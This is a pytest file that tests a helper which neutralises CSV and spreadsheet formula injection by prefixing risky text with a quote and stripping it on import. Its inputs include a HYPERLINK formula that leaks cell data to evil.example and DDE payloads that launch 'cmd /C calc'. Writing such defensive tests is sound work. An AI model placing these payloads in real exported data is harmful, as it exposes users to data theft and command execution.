"""Text a spreadsheet would run as a formula is written with a quote in front
(OWASP CSV injection); importing takes the quote off again."""

import pytest

from common.spreadsheet_safety import escape_formula, unescape_formula


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (
            '=HYPERLINK("https://evil.example/?"&A1,"Open")',
            '\'=HYPERLINK("https://evil.example/?"&A1,"Open")',
        ),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("＝1+1", "'＝1+1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠SUM(A1)", "'＠SUM(A1)"),
        ("'=1", "''=1"),
        ("Rosario", "Rosario"),
        ("a = b", "a = b"),
        ("", ""),
    ],
)
def test_text_starting_with_a_formula_sign_gets_a_quote(text, written):
    assert escape_formula(text) == written
    assert unescape_formula(written) == text


@pytest.mark.parametrize("value", [None, -33.4, 2020, True])
def test_what_is_not_text_is_written_as_it_is(value):
    assert escape_formula(value) is value


@pytest.mark.parametrize("text", ["'quoted", "'", "'' 1", "It's =1"])
def test_a_quote_not_followed_by_a_formula_sign_is_the_texts_own(text):
    assert unescape_formula(text) == text
